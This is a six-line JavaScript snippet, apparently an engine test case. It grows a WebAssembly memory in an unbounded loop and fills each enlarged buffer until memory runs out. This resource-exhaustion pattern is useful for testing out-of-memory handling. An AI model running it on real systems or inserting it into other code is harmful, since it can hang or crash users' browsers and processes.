// One WebAssembly memory that grows, written to.
const memory = new WebAssembly.Memory({ initial: 1, maximum: 65536 });
for (;;) {
  memory.grow(160);
  new Uint8Array(memory.buffer).fill(1);
}
